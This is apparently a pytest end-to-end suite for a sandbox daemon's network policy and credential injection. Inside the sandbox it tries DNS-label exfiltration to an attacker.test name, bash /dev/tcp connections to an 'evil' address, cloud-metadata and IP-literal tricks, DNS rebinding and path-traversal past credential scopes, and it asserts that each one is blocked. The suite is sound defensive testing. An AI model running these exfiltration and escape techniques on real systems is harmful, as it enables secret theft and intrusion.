"""Networked sandboxes, end to end: a daemon over real HTTP, real sandboxes created with network= and
secrets=, real upstreams (HTTP/HTTPS echo servers and an authoritative DNS server) in a test network
namespace at 198.18.0.0/24. Everything is written as the code inside the sandbox would try it.

ATTACKS.md rows E1-E20 and F1-F8 at the level of a sandbox (tests/network covers the building
blocks one by one). Nothing here leaves the machine: the daemon's resolver is the fake DNS server,
and every address is on this machine or inside namespaces the tests create.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from tests.conftest import Daemon, environ, fresh_daemon, require
from tests.network.upstreams import EchoServer, FakeDNS, LoopThread, UpstreamCA, upstream_network

TOKEN = "ghp_" + uuid.uuid4().hex + "Qx"
API_KEY = "sk-" + uuid.uuid4().hex + "Zz"
ALLOWED, EVIL, DNS_IP = "198.18.0.10", "198.18.0.11", "198.18.0.53"
ZONE = {
    "allowed.test": [ALLOWED], "api.allowed.test": [ALLOWED], "ph.allowed.test": [ALLOWED],
    "blocked.allowed.test": [ALLOWED], "evil.test": [EVIL], "gist.allowed.test": [ALLOWED], "scoped.allowed.test": [ALLOWED],
    "rebind.allowed.test": ["169.254.169.254"], "rebind2.allowed.test": ["10.0.0.1"],
}
NETWORK = {"allow": ["allowed.test", "*.allowed.test", "198.18.0.10/32"], "deny": ["blocked.allowed.test"]}
POOL = "10.203.0.0/24"


@dataclass
class World:
    d: Daemon
    http: httpx.Client
    echo: EchoServer
    dns: FakeDNS
    udp_seen: list[bytes]
    sb: Any  # corral.Sandbox
    sb2: Any
    env: dict[str, str]
    client: Any  # corral.Client
    daemon_env: dict[str, str]
    outputs: list[str] = field(default_factory=list)

    def sh(self, cmd: str, sb: Any = None, timeout_s: float = 40) -> tuple[int, str]:
        r = (sb or self.sb).commands.run(["bash", "-c", cmd], timeout_s=timeout_s)
        out = r.stdout + r.stderr
        self.outputs.append(out)
        return int(r.exit_code if r.exit_code is not None else -1), out

    def curl(self, url: str, *args: str, sb: Any = None) -> tuple[int, str]:
        """(HTTP status or 0, body + errors) of curl inside the sandbox, proxy variables as set."""
        q = " ".join(json.dumps(a) for a in (*args, url))
        rc, out = self.sh(f"curl -sS --max-time 8 -w '\\n%{{http_code}}' {q}", sb)
        body, _, code = out.rstrip("\n").rpartition("\n")
        return (int(code) if code.strip().isdigit() else 0), body + ("" if rc == 0 else out)

    def py(self, code: str, sb: Any = None) -> str:
        (sb or self.sb).files.write("/tmp/t.py", code)
        return self.sh("python3 /tmp/t.py", sb)[1]

    def audit(self, kind: str, target: str | None = None) -> list[dict[str, Any]]:
        r = self.http.get("/audit", params={"kind": kind, "target": target or self.sb.id, "limit": 10000})
        assert r.status_code == 200, r.text
        return list(r.json()["records"])

    def seen_since(self, n: int) -> list[Any]:
        return self.echo.seen[n:]


def _table(d: Daemon) -> str:
    return "corral_" + hashlib.sha256(str(d.data_dir.resolve()).encode()).hexdigest()[:8]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    require("root")
    require("oci-runtime")
    require("template-base")
    require("egress-network")
    from corral import Client, Sandbox, Secrets
    from corral.sdk.sync import run as sdk_run

    tmp = tmp_path_factory.mktemp("sbnet")
    ca = UpstreamCA(tmp)
    lt = LoopThread()
    udp_seen: list[bytes] = []
    udp_socks: list[socket.socket] = []
    with upstream_network([ALLOWED, EVIL, DNS_IP]) as up:
        echo, fake = EchoServer(), FakeDNS(ZONE)
        tls = ca.server_context(["allowed.test", "*.allowed.test", "evil.test"])

        async def serve() -> None:
            for ip in (ALLOWED, EVIL):
                await echo.serve(up.socket(socket.AF_INET, socket.SOCK_STREAM, (ip, 80)))
                await echo.serve(up.socket(socket.AF_INET, socket.SOCK_STREAM, (ip, 443)), tls)
            await fake.serve(up.socket(socket.AF_INET, socket.SOCK_DGRAM, (DNS_IP, 53)))
            udp = up.socket(socket.AF_INET, socket.SOCK_DGRAM, (ALLOWED, 9999))
            lt.loop.add_reader(udp.fileno(), lambda: udp_seen.append(udp.recv(2048)))
            udp_socks.append(udp)

        async def close() -> None:
            await echo.close()
            for u in udp_socks:
                lt.loop.remove_reader(u.fileno())
                u.close()
            if fake.transport is not None:
                fake.transport.close()

        lt.run(serve())
        ca_copy = tmp / "upstream-ca.pem"  # the daemon reads it; pytest's tmp is root-only, which is fine
        ca_copy.write_bytes(ca.ca_path.read_bytes())
        try:
            denv = {"CORRAL_NAMESERVERS": f"{DNS_IP}:53", "CORRAL_UPSTREAM_CA": str(ca_copy), "CORRAL_NET_POOL": POOL}
            with fresh_daemon(**denv) as d:
                client = Client(d.url, d.api_key)
                # The CLI registers one secret from stdin, the SDK the other.
                p = subprocess.run([sys.executable, "-m", "corral.cli.main", "secret", "set", "gh",
                                    "--host", "api.allowed.test", "--env", "GH_TOKEN"],
                                   input=TOKEN + "\n", capture_output=True, text=True, env=d.env, timeout=60)
                assert p.returncode == 0, p.stderr
                assert TOKEN not in p.stdout + p.stderr
                Secrets.set("ph", API_KEY, ["ph.allowed.test"], placeholder_headers=["X-Api-Key"], env="PH_KEY",
                            client=client)
                Secrets.set("scoped", TOKEN[::-1], ["scoped.allowed.test"], allow_requests=["GET /repos/org/*"],
                            client=client)
                with d.http() as h:
                    sb = Sandbox.create("base", network=NETWORK, secrets=["gh", "ph", "scoped"], client=client)
                    sb2 = Sandbox.create("base", network=NETWORK, client=client)
                    r = sb.commands.run(["env"])
                    env = dict(line.split("=", 1) for line in r.stdout.splitlines() if "=" in line)
                    w = World(d, h, echo, fake, udp_seen, sb, sb2, env, client, denv)
                    try:
                        yield w
                    finally:
                        for s in (sb, sb2):
                            s.kill()
                        sdk_run(client.close())
                    # The last check: no secret value in anything we can read: the daemon's log, the whole
                    # audit store (API and the database file), the API's answers and every command's output.
                    everything = "\n".join([d.log_path.read_text(errors="replace"), *w.outputs,
                                            w.http.get("/audit", params={"limit": 10000}).text,
                                            w.http.get("/secrets").text])
                    w.http.close()
                    assert TOKEN not in everything and API_KEY not in everything and TOKEN[::-1] not in everything
                    db = (d.data_dir / "corral.db").read_bytes()
                    assert TOKEN.encode() not in db and API_KEY.encode() not in db
                    store = (d.data_dir / "network" / "secrets" / "secrets.json").read_bytes()
                    assert TOKEN.encode() not in store and API_KEY.encode() not in store  # encrypted at rest
                table = _table(d)
            # The daemon stopped with no networked sandbox left: its table and veths are gone.
            assert subprocess.run(["nft", "list", "table", "inet", table], capture_output=True).returncode != 0
            links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True).stdout
            assert f": c{table[7:10]}" not in links
        finally:
            lt.run(close())
            lt.close()


# ------------------------------------------------------------------------------------------ wiring


def test_environment_and_trust(world: World) -> None:
    env = world.env
    gw = env["HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)[0]
    assert env["HTTPS_PROXY"] == env["https_proxy"] == env["HTTP_PROXY"] == f"http://{gw}:3128"
    assert gw.startswith("10.203.0.")
    for var in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE"):
        assert env[var] == "/.corral/net/ca.pem"
    # The sandbox sees placeholders, never values.
    assert env["GH_TOKEN"].startswith("corral-placeholder-") and env["PH_KEY"].startswith("corral-placeholder-")
    assert TOKEN not in json.dumps(env) and API_KEY not in json.dumps(env)
    _, out = world.sh("cat /etc/resolv.conf; grep -c 'BEGIN CERTIFICATE' /.corral/net/ca.pem "
                      "/etc/ssl/certs/ca-certificates.crt")
    assert f"nameserver {gw}" in out
    counts = [int(x.rsplit(":", 1)[1]) for x in out.splitlines() if "ca" in x and ":" in x and x[-1].isdigit()]
    assert len(counts) == 2 and counts[0] == counts[1] > 2  # system roots + Corral's CA + the upstream CA
    # Read-only: the sandbox cannot swap the trust store or the resolver.
    rc, out = world.sh("echo x >> /etc/resolv.conf || echo RO1; echo x >> /.corral/net/ca.pem || echo RO2")
    assert "RO1" in out and "RO2" in out
    # The placeholders are also files (for tools that read credentials from files).
    _, out = world.sh("cat /.corral/net/secrets/gh /.corral/net/secrets/ph")
    assert out.split() == [env["GH_TOKEN"], env["PH_KEY"]]
    # The second sandbox has no secrets, so no placeholders.
    _, out = world.sh("env", world.sb2)
    assert "GH_TOKEN" not in out and "corral-placeholder-" not in out


def test_networked_creates_are_not_served_from_the_warm_pool(world: World) -> None:
    from corral import Sandbox

    plain = Sandbox.create("base", client=world.client)  # asks the pool to keep one ready
    try:
        time.sleep(1.5)
        sb = Sandbox.create("base", network={"allow": []}, client=world.client)
        try:
            assert sb.info.timing is not None and not sb.info.timing.from_pool
            _, out = world.sh("env | grep -c ^HTTPS_PROXY=", sb)
            assert out.strip() == "1"
            # Nothing allowed: nothing resolves, nothing connects.
            assert world.curl("https://allowed.test/", sb=sb)[0] in (0, 403)
        finally:
            sb.kill()
    finally:
        plain.kill()


# ------------------------------------------------------------------------------------------ policy


def test_allowed_https_passes_through_untouched(world: World) -> None:
    n = len(world.echo.seen)
    code, body = world.curl("https://allowed.test/hello")  # through HTTPS_PROXY
    assert code == 200, body
    code, body = world.curl("https://allowed.test/direct", "--noproxy", "*")  # transparent
    assert code == 200, body
    seen = world.seen_since(n)
    assert [s.path for s in seen] == ["/hello", "/direct"] and all(s.tls for s in seen)
    assert all("authorization" not in s.headers for s in seen)
    # net.close is written once the proxy sees both sides close, which may be after curl returned.
    deadline = time.monotonic() + 10
    while not (conns := [r for r in world.audit("net.close") if r["detail"].get("destination") == "allowed.test"]):
        assert time.monotonic() < deadline, "no net.close record"
        time.sleep(0.1)
    assert conns[-1]["detail"]["bytes_down"] > 0 and conns[-1]["detail"]["rule"]
    # git and Python's own TLS stack trust the same bundle.
    out = world.py("import urllib.request\nprint(urllib.request.urlopen('https://allowed.test/py', timeout=8).status)")
    assert out.strip().endswith("200"), out


def test_denied_and_unlisted_names_do_not_resolve_or_connect(world: World) -> None:
    n, q = len(world.echo.seen), len(world.dns.queries)
    for url in ("https://evil.test/", "http://evil.test/", "https://blocked.allowed.test/"):
        code, body = world.curl(url)
        assert code in (0, 403), (url, body)
        code, body = world.curl(url, "--noproxy", "*")
        assert code in (0, 403), (url, body)
    rc, out = world.sh("getent hosts evil.test; echo rc=$?; getent hosts blocked.allowed.test; echo rc=$?")
    assert out.count("rc=2") == 2, out
    assert "evil.test" not in world.dns.queries[q:] and "blocked.allowed.test" not in world.dns.queries[q:]
    assert world.seen_since(n) == []
    assert world.audit("dns.deny") and world.audit("net.deny")


def test_ip_literals_decimal_hex_and_ipv6_are_denied(world: World) -> None:
    n = len(world.echo.seen)
    dec = str(struct.unpack("!I", socket.inet_aton(EVIL))[0])
    for url in (f"http://{EVIL}/", f"http://{dec}/", "http://0xc6.0x12.0.11/", f"https://{EVIL}/",
                f"http://[::ffff:{EVIL}]/", "http://169.254.169.254/latest/meta-data/"):
        for extra in ((), ("--noproxy", "*")):
            code, _ = world.curl(url, *extra)
            assert code in (0, 403), url
    out = world.py("import socket\n"
                   "for a in [('2001:db8::10',80),('::1',80),('fe80::1%eth0',80)]:\n"
                   "  try: socket.create_connection(a,timeout=2);print('CONNECTED',a)\n"
                   "  except OSError as e: print('refused',a)")
    assert "CONNECTED" not in out and out.count("refused") == 3, out
    assert world.seen_since(n) == []


def test_connect_to_denied_host_and_sni_host_mismatch(world: World) -> None:
    n = len(world.echo.seen)
    gw = world.env["HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)[0]
    out = world.py("import socket,ssl\n"
                   f"s=socket.create_connection(('{gw}',3128),timeout=5)\n"
                   "s.sendall(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n')\n"
                   "print('A',s.recv(4096).decode().split('\\r\\n')[0])\n"
                   f"s=socket.create_connection(('{gw}',3128),timeout=5)\n"
                   "s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')\n"
                   "print('B',s.recv(4096).decode().split('\\r\\n')[0])\n"
                   "try:\n"
                   " t=ssl.create_default_context().wrap_socket(s,server_hostname='evil.test');print('TLSOK')\n"
                   "except Exception as e: print('TLSFAIL',type(e).__name__)\n"
                   # transparent: TLS to the allowed address naming evil.test
                   f"s=socket.create_connection(('{ALLOWED}',443),timeout=5)\n"
                   "try:\n"
                   " t=ssl.create_default_context().wrap_socket(s,server_hostname='evil.test');print('TLSOK2')\n"
                   "except Exception as e: print('TLSFAIL2',type(e).__name__)\n"
                   # plain HTTP to the allowed address with a Host header of a denied name
                   f"s=socket.create_connection(('{ALLOWED}',80),timeout=5)\n"
                   "s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
                   "print('C',s.recv(4096).decode().split('\\r\\n')[0])\n")
    assert "A HTTP/1.1 403" in out, out
    assert "B HTTP/1.1 200" in out and "TLSFAIL" in out and "TLSOK" not in out, out
    assert "TLSFAIL2" in out and "C HTTP/1.1 403" in out, out
    assert [s for s in world.seen_since(n) if "evil" in s.host] == []


def test_dns_exfiltration_other_ports_and_dev_tcp(world: World) -> None:
    q = len(world.dns.queries)
    label = uuid.uuid4().hex
    # E11: a secret in a label, to Corral's resolver and straight to the upstream resolver's address
    # (UDP/53 to any address is answered by Corral's resolver, which never forwards a denied name).
    out = world.py("import socket,struct\n"
                   f"name=b'{label}.attacker.test'\n"
                   "q=struct.pack('!HHHHHH',7,256,1,0,0,0)+b''.join(bytes([len(p)])+p for p in name.split(b'.'))+"
                   "b'\\x00'+struct.pack('!HH',1,1)\n"
                   f"for dst in ['{DNS_IP}','8.8.8.8']:\n"
                   "  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3);s.sendto(q,(dst,53))\n"
                   "  try: d=s.recv(512);print('rcode',d[3]&15)\n  except OSError: print('noanswer')")
    assert "rcode 0" not in out, out
    rc, _ = world.sh(f"getent hosts {label}.allowed.test.attacker.test")
    assert rc != 0
    assert not [x for x in world.dns.queries[q:] if label in x]
    # E13: an allowed name on a port its entry does not list.
    # (A transparent connection is accepted by the proxy, which then refuses what it carries.)
    rc, out = world.sh("curl -sS --max-time 5 -p -x $HTTPS_PROXY http://allowed.test:22/ -o /dev/null "
                       "-w '%{http_connect}'; echo; exec 3<>/dev/tcp/allowed.test/80 && "
                       "printf 'GET /p HTTP/1.0\\r\\nHost: allowed.test:8080\\r\\n\\r\\n' >&3 && timeout 5 cat <&3")
    assert out.startswith("403") and "HTTP/1.1 403" in out and "HTTP/1.1 200" not in out, out
    # E1 with bash's /dev/tcp straight to an IP: the proxy refuses it (the upstream sees nothing).
    n = len(world.echo.seen)
    rc, out = world.sh(f"exec 3<>/dev/tcp/{EVIL}/80 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && "
                       "timeout 5 cat <&3")
    assert "HTTP/1.1 200" not in out and world.seen_since(n) == []
    # F1: the value is nowhere in the sandbox's process environment.
    _, out = world.sh("cat /proc/self/environ | tr '\\0' '\\n' | grep -c corral-placeholder-; "
                      "cat /proc/1/environ 2>&1 | head -c 100")
    assert TOKEN not in out and API_KEY not in out


def test_dns_rebinding_into_private_ranges_is_denied(world: World) -> None:
    for name in ("rebind.allowed.test", "rebind2.allowed.test"):
        rc, _ = world.sh(f"getent ahostsv4 {name}")
        assert rc != 0
        code, body = world.curl(f"http://{name}/")
        assert code == 403 and "private or special range" in body, body


def test_daemon_host_services_and_other_sandboxes_are_unreachable(world: World) -> None:
    # Host listeners on every IPv4 address of this machine, on one port; the daemon's API port too.
    addrs = json.loads(subprocess.run(["ip", "-j", "-4", "addr"], capture_output=True, text=True).stdout)
    ips = sorted({a["local"] for i in addrs for a in i.get("addr_info", [])})
    socks = []
    for ip in ips:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind((ip, 0 if not socks else socks[0].getsockname()[1]))
        except OSError:
            s.close()
            continue
        s.listen(8)
        s.setblocking(False)
        socks.append(s)
    port = socks[0].getsockname()[1]
    # A listener inside the second sandbox.
    world.sb2.commands.run(["python3", "-c", "import socket,time\ns=socket.socket();s.bind(('0.0.0.0',8765));"
                            "s.listen(8);s.settimeout(6)\ntry:\n c,a=s.accept();open('/tmp/got','w').write(str(a))\n"
                            "except OSError: pass"], background=True)
    _, env2 = world.sh("cat /etc/resolv.conf", world.sb2)
    gw2 = env2.split()[1]
    ip2 = gw2.rsplit(".", 1)[0] + "." + str(int(gw2.rsplit(".", 1)[1]) + 1)
    gw = world.env["HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)[0]
    targets = [(ip, port) for ip in ips] + [(gw, port), (gw, world.d.port), ("127.0.0.1", world.d.port),
                                            (gw, 22), (ip2, 8765), (gw2, 8765)]
    try:
        out = world.py("import socket,json\nres={}\n"
                       f"for h,p in {targets!r}:\n"
                       "  try:\n"
                       "    s=socket.create_connection((h,p),timeout=3);s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
                       "    d=s.recv(200);res[f'{h}:{p}']=d.decode(errors='replace')[:40]\n"
                       "  except OSError as e: res[f'{h}:{p}']='ERR'\nprint(json.dumps(res))")
        res = json.loads(out.strip().splitlines()[-1])
        # Every attempt either failed or got the proxy's refusal; none reached a listener.
        for k, v in res.items():
            assert v == "ERR" or v.startswith(("HTTP/1.1 400", "HTTP/1.1 403")), (k, v)  # the proxy, not a listener
        got = []
        for s in socks:
            try:
                c, peer = s.accept()
                got.append(peer)
                c.close()
            except BlockingIOError:
                pass
        assert got == []
        time.sleep(0.5)
        rc, _ = world.sh("test -e /tmp/got", world.sb2)
        assert rc != 0, "the other sandbox's listener was reached"
    finally:
        for s in socks:
            s.close()


def test_udp_icmp_and_raw_sockets_go_nowhere(world: World) -> None:
    gw = world.env["HTTPS_PROXY"].removeprefix("http://").rsplit(":", 1)[0]
    out = world.py("import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                   f"for a in [('{ALLOWED}',9999),('{gw}',9999),('{ALLOWED}',53),('{gw}',123)]:\n"
                   "  try: s.sendto(b'leak',a)\n  except OSError as e: print('sendfail',e.errno)\n"
                   "for t in (socket.SOCK_RAW,):\n"
                   "  try: socket.socket(socket.AF_INET,t,socket.IPPROTO_ICMP);print('RAW')\n"
                   "  except OSError as e: print('raw refused',e.errno)\n"
                   "try:\n r=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,socket.IPPROTO_ICMP)\n"
                   " import struct\n p=struct.pack('!BBHHH',8,0,0,1,1);r.settimeout(1.5)\n"
                   f" r.sendto(p,('{ALLOWED}',0));r.recvfrom(100);print('PING REPLY')\n"
                   "except OSError as e: print('ping none',e.errno)\nprint('done')")
    assert "done" in out and "RAW" not in out and "PING REPLY" not in out, out
    time.sleep(0.5)
    assert world.udp_seen == []


# ------------------------------------------------------------------------------------------ secrets


def test_token_is_injected_for_the_bound_host_only(world: World) -> None:
    ph = world.env["GH_TOKEN"]
    n = len(world.echo.seen)
    code, body = world.curl("https://api.allowed.test/user")  # no header at all from the client
    assert code == 200, body
    code, body = world.curl("https://api.allowed.test/user2", "-H", f"Authorization: Bearer {ph}", "--noproxy", "*")
    assert code == 200, body
    assert TOKEN not in body  # the upstream reflected it; the sandbox gets it redacted
    seen = world.seen_since(n)
    assert [s.headers.get("authorization") for s in seen] == [f"Bearer {TOKEN}"] * 2
    # `echo $GITHUB_TOKEN` prints the placeholder; sending it elsewhere sends the placeholder.
    _, out = world.sh("echo $GH_TOKEN")
    assert out.strip() == ph
    n = len(world.echo.seen)
    for url in ("https://allowed.test/", "http://allowed.test/", "http://api.allowed.test/"):
        code, body = world.curl(url, "-H", f"Authorization: Bearer {ph}")
        assert code == 200, body
    assert [s.headers.get("authorization") for s in world.seen_since(n)] == [f"Bearer {ph}"] * 3
    uses = world.audit("secret.use")
    assert uses and uses[-1]["detail"]["secret"] == "gh" and uses[-1]["detail"]["destination"] == "api.allowed.test"
    misuse = world.audit("secret.placeholder_misuse")
    assert {r["detail"]["destination"] for r in misuse} >= {"allowed.test"}
    # The other sandbox does not hold the secret: the bound host gets nothing from it.
    n = len(world.echo.seen)
    code, _ = world.curl("https://api.allowed.test/", "-H", f"Authorization: Bearer {ph}", sb=world.sb2)
    assert code == 200
    assert [s.headers.get("authorization") for s in world.seen_since(n)] == [f"Bearer {ph}"]


def test_git_clone_style_request_and_placeholder_in_declared_header(world: World) -> None:
    ph = world.env["PH_KEY"]
    n = len(world.echo.seen)
    code, body = world.curl("https://ph.allowed.test/v1", "-H", f"X-Api-Key: {ph}", "-H", f"X-Other: {ph}")
    assert code == 200, body
    s = world.seen_since(n)[0]
    assert s.headers["x-api-key"] == API_KEY and s.headers["x-other"] == ph
    assert API_KEY not in body
    # git speaks HTTPS through the proxy with the bundle's trust (smart-HTTP discovery request).
    n = len(world.echo.seen)
    rc, out = world.sh("git ls-remote https://api.allowed.test/org/repo.git 2>&1; true")
    hits = world.seen_since(n)
    assert hits and hits[0].path.startswith("/org/repo.git/info/refs"), out
    assert hits[0].headers.get("authorization") == f"Bearer {TOKEN}"
    assert TOKEN not in out


def test_request_rules_limit_what_a_credential_may_do(world: World) -> None:
    """F7/E20: a credential scoped to 'GET /repos/org/*' is not used to write, or to reach another repo."""
    n = len(world.echo.seen)
    code, body = world.curl("https://scoped.allowed.test/repos/org/app?ref=main")
    assert code == 200, body
    assert world.seen_since(n)[0].headers.get("authorization") == f"Bearer {TOKEN[::-1]}"
    n = len(world.echo.seen)
    for args in (("-X", "POST", "https://scoped.allowed.test/repos/org/app"),
                 ("https://scoped.allowed.test/repos/other/app",),
                 ("--path-as-is", "https://scoped.allowed.test/repos/org/../other/app"),
                 ("--path-as-is", "https://scoped.allowed.test/repos/org/%2e%2e/other/app")):
        code, body = world.curl(args[-1], *args[:-1])
        assert code == 403 and "may not be used" in body, (args, body)
    assert world.seen_since(n) == []  # refused at the proxy: the upstream saw nothing
    denied = [r for r in world.audit("net.deny") if r["detail"].get("rule") == "secret:scoped"]
    assert len(denied) >= 4
    # Changing the secret's rules applies to running sandboxes at once (and a new value with it).
    from corral import Secrets

    Secrets.set("scoped", TOKEN[::-1] + "2", ["scoped.allowed.test"], allow_requests=["GET /repos/other/*"],
                client=world.client)
    try:
        assert world.curl("https://scoped.allowed.test/repos/org/app")[0] == 403
        n = len(world.echo.seen)
        assert world.curl("https://scoped.allowed.test/repos/other/app")[0] == 200
        assert world.seen_since(n)[0].headers.get("authorization") == f"Bearer {TOKEN[::-1]}2"
    finally:
        Secrets.set("scoped", TOKEN[::-1], ["scoped.allowed.test"], allow_requests=["GET /repos/org/*"],
                    client=world.client)
    # A secret in use cannot be deleted from under its sandboxes.
    r = world.http.delete("/secrets/scoped")
    assert r.status_code == 409 and world.sb.id in r.text


def test_redirect_to_another_host_drops_the_credential(world: World) -> None:
    n = len(world.echo.seen)
    code, body = world.curl("https://api.allowed.test/redirect?to=https://allowed.test/landing", "-L")
    assert code == 200, body
    hops = world.seen_since(n)
    assert [h.host for h in hops] == ["api.allowed.test", "allowed.test"]
    assert hops[0].headers["authorization"] == f"Bearer {TOKEN}" and "authorization" not in hops[1].headers


def test_secret_api_never_returns_values(world: World) -> None:
    r = world.http.get("/secrets")
    assert r.status_code == 200
    names = {s["name"]: s for s in r.json()["secrets"]}
    assert set(names) >= {"gh", "ph"} and names["gh"]["hosts"] == ["api.allowed.test"]
    assert names["gh"]["placeholder"] == world.env["GH_TOKEN"]
    p = subprocess.run([sys.executable, "-m", "corral.cli.main", "secret", "ls"], capture_output=True, text=True,
                       env=world.d.env, timeout=60)
    assert p.returncode == 0 and "gh" in p.stdout and "api.allowed.test" in p.stdout
    world.outputs.append(p.stdout + p.stderr)
    # Bad input: a clear error, and the value is not echoed back.
    bad = world.http.put("/secrets/bad", json={"value": TOKEN + "\nX", "hosts": ["api.allowed.test"]})
    assert bad.status_code == 400 and TOKEN not in bad.text
    bad = world.http.put("/secrets/bad", json={"value": TOKEN, "hosts": ["10.0.0.0/8"]})
    assert bad.status_code == 400 and TOKEN not in bad.text and "names" in bad.text
    bad = world.http.put("/secrets/Bad Name", json={"value": TOKEN, "hosts": ["x.allowed.test"]})
    assert bad.status_code in (400, 404) and TOKEN not in bad.text
    world.outputs.append(bad.text)
    assert world.http.delete("/secrets/nope").json()["error"]["code"] == "SecretNotFound"


def test_policy_errors_are_clear(world: World) -> None:
    h = world.http
    cases = [({"network": {"allow": ["*"]}}, "allows everything"), ({"network": {"allow": ["*.com"]}}, "top-level"),
             ({"network": {"allow": ["*.co.uk"]}}, "public suffix"),
             ({"network": {"allow": ["0.0.0.0/0"]}}, "every address"),
             ({"secrets": ["gh"]}, "network policy"),
             ({"network": {"allow": []}, "secrets": ["nope"]}, "nope")]
    for body, words in cases:
        r = h.post("/sandboxes", json={"template": "base", **body})
        assert r.status_code in (400, 404), (body, r.text)
        assert words in r.text, (body, r.text)


def test_live_update_applies_to_new_connections(world: World) -> None:
    assert world.curl("https://allowed.test/")[0] == 200
    world.sb.network.update(allow=["api.allowed.test", "198.18.0.10/32"])
    try:
        assert world.sb.network.policy is not None and world.sb.network.policy.allow[0] == "api.allowed.test"
        assert world.curl("https://allowed.test/")[0] in (0, 403)
        assert world.curl("https://api.allowed.test/")[0] == 200
        assert world.curl("https://allowed.test/", sb=world.sb2)[0] == 200  # the other sandbox is unchanged
        # The CLI shows and changes the same lists.
        p = subprocess.run([sys.executable, "-m", "corral.cli.main", "network", world.sb.id, "--deny",
                            "api.allowed.test"], capture_output=True, text=True, env=world.d.env, timeout=60)
        assert p.returncode == 0 and "api.allowed.test" in p.stdout, p.stderr
        assert world.curl("https://api.allowed.test/")[0] in (0, 403)
        r = world.http.put(f"/sandboxes/{world.sb2.id}/network", json={"allow": ["*"]})
        assert r.status_code == 400
    finally:
        world.sb.network.update(allow=NETWORK["allow"], deny=NETWORK["deny"])
    assert world.curl("https://allowed.test/")[0] == 200
    assert world.audit("sandbox.network_update")


def test_audit_stream_and_cli_logs(world: World) -> None:
    lines: list[dict[str, Any]] = []
    with subprocess.Popen([sys.executable, "-m", "corral.cli.main", "logs", "--audit", world.sb.id, "-f", "--json",
                           "--kind", "net."], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
                          env=world.d.env) as p:
        assert p.stdout is not None
        out = p.stdout

        def reader() -> None:
            for line in out:
                if line.strip():
                    lines.append(json.loads(line))

        t = threading.Thread(target=reader, daemon=True)
        t.start()
        try:
            # The stream starts "from now" once the CLI is connected: keep making traffic until it shows.
            deadline = time.monotonic() + 40
            while time.monotonic() < deadline:
                world.curl("https://evil.test/x")
                world.curl("https://allowed.test/streamed")
                time.sleep(0.5)
                kinds = {x["action"] for x in lines}
                if {"net.deny", "net.close"} <= kinds:
                    break
            assert {"net.deny", "net.close"} <= {x["action"] for x in lines}, lines
            assert all(x["target"] == world.sb.id for x in lines)
        finally:
            p.terminate()
            p.wait(10)
            t.join(5)
    p2 = subprocess.run([sys.executable, "-m", "corral.cli.main", "logs", "--audit", world.sb.id, "--kind",
                         "secret."], capture_output=True, text=True, env=world.d.env, timeout=60)
    assert p2.returncode == 0 and "secret.use" in p2.stdout
    world.outputs.append(p2.stdout)
    assert world.http.get("/audit/verify").json()["ok"]


# ------------------------------------------------------------------------------------------ lifecycle


def test_stop_start_and_daemon_restart_keep_the_policy(world: World) -> None:
    sb = world.sb
    gw_before = world.env["HTTPS_PROXY"]
    sb.stop()
    sb.start()
    assert world.curl("https://allowed.test/after-start")[0] == 200
    assert world.curl("https://evil.test/")[0] in (0, 403)
    # The daemon goes away (SIGKILL): the sandbox keeps running, its network fails closed meanwhile.
    world.d.stop(9)
    r = subprocess.run(["nsenter", "-t", str(_init_pid(world, sb.id)), "-n", "curl", "-sS", "--max-time", "3",
                        "http://allowed.test/"], capture_output=True, text=True)
    assert r.returncode != 0
    with environ(world.daemon_env):
        world.d.start()
    world.http.close()
    world.http = world.d.http()
    _, out = world.sh("echo $HTTPS_PROXY")
    assert out.strip() == gw_before  # same address and gateway after the restart
    assert world.curl("https://allowed.test/after-restart")[0] == 200
    assert world.curl("https://evil.test/")[0] in (0, 403)
    n = len(world.echo.seen)
    assert world.curl("https://api.allowed.test/r")[0] == 200
    assert world.seen_since(n)[0].headers.get("authorization") == f"Bearer {TOKEN}"


def test_hibernate_and_restore_rewire_the_same_address(world: World) -> None:
    require("hibernation")
    from corral import Sandbox

    sb = Sandbox.create("base", network=NETWORK, secrets=["gh"], hibernatable=True, client=world.client)
    try:
        _, before = world.sh("echo $HTTPS_PROXY", sb)
        assert world.curl("https://allowed.test/pre", sb=sb)[0] == 200
        # An open connection (a keep-alive pool) does not stop the checkpoint: it comes back closed.
        holder = sb.commands.run(["python3", "-c", "import socket,time\ns=socket.create_connection(('allowed.test',80))\n"
                                  "s.sendall(b'GET /held HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n');s.recv(100)\n"
                                  "print('open',flush=True);time.sleep(600)"], background=True)
        deadline = time.monotonic() + 10
        while not [x for x in world.echo.seen if x.path == "/held"] and time.monotonic() < deadline:
            time.sleep(0.1)
        sb.pause(to_disk=True)
        assert sb.info.status == "hibernated"
        n = len(world.echo.seen)
        assert world.curl("https://api.allowed.test/post", sb=sb)[0] == 200  # auto-restores
        _, after = world.sh("echo $HTTPS_PROXY", sb)
        assert after == before
        assert world.seen_since(n)[-1].headers.get("authorization") == f"Bearer {TOKEN}"
        assert world.curl("https://evil.test/", sb=sb)[0] in (0, 403)
        assert holder.pid in [p.pid for p in sb.commands.list()]  # the process itself came back
    finally:
        sb.kill()


